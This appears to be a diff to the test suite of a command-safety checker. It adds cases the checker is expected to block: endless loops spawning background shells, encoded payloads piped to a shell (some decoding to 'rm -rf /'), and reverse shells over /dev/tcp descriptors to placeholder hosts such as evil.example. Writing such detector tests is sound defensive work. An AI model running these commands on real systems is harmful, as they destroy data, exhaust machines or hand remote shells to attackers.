@@ -19,6 +19,11 @@ ENDLESS_SPAWNING = [
     "while [ 1 ]; do ping -c1 gateway & done",
     "while /bin/true\ndo\n  cat /dev/zero > /dev/null &\ndone",
     "while true; do (sleep 5 &) ; done",
+    "while ! false; do sh & done",
+    "while 'true'; do sh & done",
+    "for ((;1;)); do sh & done",
+    "until ! /bin/true; do sleep 9 & done",
+    "while true; do sh & f() { break; }; done",  # a break never called leaves nothing
 ]
 # loops that end, or start nothing in the background: judged as before
 ENDING_OR_WAITING = [
@@ -26,6 +31,8 @@ ENDING_OR_WAITING = [
     "for i in 1 2 3; do sleep 1 & done; wait",
     "while read -r host; do ping -c1 \"$host\" & done < hosts.txt",
     "until false; do date; exit 0; done",
+    "for ((;0;)); do sleep 1 & done",
+    "for ((i=0; i<3; i++)); do sleep 1 & done",
 ]
 
 # 2. code decoded from text the line does not show, fed to a shell
@@ -36,12 +43,17 @@ HIDDEN_DECODED = [
     "xxd -r -p ./hex.dump | bash",
     "printf '%s' \"$1\" | openssl base64 -d | zsh",
     "openssl enc -d -a -in blob.txt | sh",
+    "echo $P | base64 -di | sh",
+    "echo $P | xxd -rp | sh",
+    "echo $P | basenc --base64 -d | bash",
 ]
 # decoded from text the line shows: judged as what it says
 SHOWN_DECODED = [
     ("echo 'cm0gLXJmIC8=' | openssl base64 -d | sh", True),  # rm -rf /
     ("printf 'cm0gLXJmIC9ldGM=' | openssl enc -d -base64 | bash", True),  # rm -rf /etc
     ("echo 'dXB0aW1l' | base64 -d | sh", False),  # uptime
+    ("echo 'cm0gLXJmIC8=' | base64 -di | sh", True),
+    ("echo 'cm0gLXJmIC8=' | basenc --base64 -d | sh", True),
 ]
 
 # 3. a shell wired to a connection an earlier `exec` opened
@@ -49,6 +61,9 @@ NETWORK_FD_SHELLS = [
     "exec 3<>/dev/tcp/203.0.113.5/8080; bash <&3 >&3 2>&3",
     "exec 9<>/dev/udp/198.51.100.7/53\nsh -i <&9 >&9",
     "exec 5<>/dev/tcp/evil.example/443; python3 -i <&5 >&5",
+    "exec 3<>/dev/tcp/192.0.2.4/4444; exec 0<&3 1>&3 2>&3; sh -i",
+    "exec 3<>/dev/tcp/192.0.2.4/4444; sh <&3-",
+    "exec 3<>/dev/tcp/192.0.2.4/4444; bash /dev/fd/3",
 ]
 
 
@@ -99,7 +114,8 @@ def test_a_value_known_only_at_run_time_is_never_decoded_as_its_name() -> None:
 def test_a_shell_on_a_connection_opened_before_it_is_a_reverse_shell(command: str) -> None:
     verdict = assess(command)
     assert verdict.blocked, (command, verdict.reasons)
-    assert any("reverse shell" in r for r in verdict.reasons), verdict.reasons
+    assert any("network connection opened before it" in r for r in verdict.reasons), \
+        verdict.reasons
 
 
 def test_a_plain_request_over_dev_tcp_asks_and_says_what_it_is() -> None:
